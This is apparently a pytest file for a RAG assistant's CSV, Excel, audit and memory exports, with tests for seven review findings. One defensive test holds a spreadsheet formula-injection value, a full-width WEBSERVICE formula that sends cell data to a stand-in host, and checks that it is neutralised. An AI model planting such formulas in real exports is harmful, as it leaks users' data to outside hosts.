"""Review 364 (what leaves the app as files), each a reproduction:

- #1 the Excel export's time grew with the square of its rows, and 反馈审阅/知识缺口 built it at every click;
- #2 `insights-export --out x.csv` wrote an Excel workbook (and `--format csv --out x.xlsx` CSV), said 已导出;
- #3 `audit --action 上传文档` / `--user 本机用户` / a mistyped action found nothing; its rows printed codes;
- #4 full-width ＝＋－＠ at a cell's start written bare in CSV;
- #5 the feedback export named cited documents by id where the page names their titles;
- #6 a comment `#N/A` exported as an Excel error cell;
- #7 我的记忆.json ended with an empty "conversations".
"""

from __future__ import annotations

import csv
import io
import time
import zipfile
from pathlib import Path

import pytest
from cli_support import invoke
from fakes import fake_assistant, fake_assistant_with_samples

from rag_core import AccountError, Principal
from rag_core.insights.export import to_csv, to_xlsx

HR, EMP, ADMIN = Principal("hr_li", "hr"), Principal("emp_wang", "employee"), Principal("boss", "admin")


def _rows(n: int) -> list[dict[str, str]]:
    return [{"问题": f"问题{i}", "回答": "回答" * 5, "说明": "#N/A" if i == 0 else "-", "次数": str(i)} for i in range(n)]


def _fastest(rows: list[dict[str, str]], rounds: int = 3) -> float:
    """The least CPU time of `rounds` exports: this process's own work, not the wall clock other jobs stretch
    (a wall-clock ratio read 11.2 beside two reviewers' runs, stop 70)."""
    best = float("inf")
    for _ in range(rounds):
        started = time.process_time()
        to_xlsx({"表": rows})
        best = min(best, time.process_time() - started)
    return best


def test_the_excel_export_grows_with_its_rows_not_their_square() -> None:
    small, large = _rows(2000), _rows(8000)  # each timing well above a scheduler's hiccup (1,000 rows: 45 ms)
    to_xlsx({"表": small})  # openpyxl imported and warm
    ratio = _fastest(large, rounds=3) / _fastest(small, rounds=3)
    assert ratio < 9, ratio  # 4× the rows: about 4× the time (the square: 16×; it failed once at load 4 with 1,000 rows)


def test_text_that_reads_as_an_error_code_stays_text() -> None:
    data = to_xlsx({"表": _rows(2)})
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert 't="e"' not in sheet and "#N/A" in sheet


@pytest.mark.parametrize("start", ["＝", "＋", "－", "＠"])
def test_full_width_formula_starts_are_guarded_in_csv(start: str) -> None:
    value = f'{start}WEBSERVICE("http://y.example/?"&A1)'
    cell = next(csv.reader(io.StringIO(to_csv([{"问题": value}]).decode("utf-8-sig").splitlines()[1])))[0]
    assert cell == "'" + value


def _use(monkeypatch, facade) -> None:
    import rag_core.cli

    monkeypatch.setattr(rag_core.cli, "open_assistant", lambda args: facade)


@pytest.mark.parametrize(("out", "fmt", "magic"), [("知识缺口.csv", None, b"\xef\xbb\xbf"), ("知识缺口.xlsx", None, b"PK"),
                                                   ("知识缺口.dat", None, b"PK"), ("知识缺口.dat", "csv", b"\xef\xbb\xbf")])
def test_the_export_format_follows_the_file_name(tmp_path: Path, capsys, monkeypatch, out, fmt, magic) -> None:
    _use(monkeypatch, fake_assistant(tmp_path / "store"))
    target = tmp_path / out
    result = invoke(capsys, "insights-export", "gaps", "--out", str(target), *(["--format", fmt] if fmt else []))
    assert result.exit_code == 0 and target.read_bytes().startswith(magic)


@pytest.mark.parametrize(("out", "fmt"), [("x.csv", "xlsx"), ("x.xlsx", "csv")])
def test_a_format_against_the_file_name_is_refused(tmp_path: Path, capsys, monkeypatch, out, fmt) -> None:
    _use(monkeypatch, fake_assistant(tmp_path / "store"))
    result = invoke(capsys, "insights-export", "gaps", "--out", str(tmp_path / out), "--format", fmt)
    assert result.exit_code == 2 and "不一致" in result.stderr and not (tmp_path / out).exists()


def test_the_audit_reads_the_pages_names_and_says_them(tmp_path: Path, capsys, monkeypatch) -> None:
    a = fake_assistant(tmp_path / "store")
    assert a.ingest_bytes("# 年假制度\n\n第一条 员工每年享有带薪年假 5 天。\n".encode(), "年假制度.md").ok
    assert [r.action for r in a.audit_entries(action="上传文档")] == ["document.upload"]
    assert [r.actor for r in a.audit_entries(user="本机用户", action="document.upload")] == ["local"]
    with pytest.raises(AccountError, match="没有这类操作"):
        a.audit_entries(action="document_upload")
    _use(monkeypatch, a)
    shown = invoke(capsys, "audit", "--action", "上传文档")
    assert "本机用户(管理员)" in shown.stdout and "上传文档" in shown.stdout and "成功" in shown.stdout
    assert "document.upload" not in shown.stdout
    typo = invoke(capsys, "audit", "--action", "document_upload")
    assert typo.exit_code != 0 and "没有这类操作" in typo.stderr


def test_the_feedback_export_names_documents_as_the_page_does(tmp_path: Path) -> None:
    a = fake_assistant_with_samples(tmp_path / "store")
    a.record_feedback(a.ask("年假有几天？", actor=EMP), -1, actor=EMP, reason="信息过时")
    entry = a.feedback_reviews(actor=HR)[0]
    titles = {d.doc_id: d.title for d in a.list_documents(actor=HR)}
    rows = list(csv.DictReader(io.StringIO(a.export_insights("feedback", "csv", actor=HR).decode("utf-8-sig"))))
    assert entry.docs and rows[0]["涉及文档"] == "；".join(titles[d] for d in entry.docs)


def test_a_memories_export_has_no_conversations_key() -> None:
    from ui.timefmt import export_for_people

    assert "conversations" not in export_for_people({"user": "local", "memories": []})
    history = export_for_people({"user": "local", "conversations": [{"user": "local", "turns": []}]})
    assert history["user"] == "本机用户" and history["conversations"][0]["user"] == "本机用户"
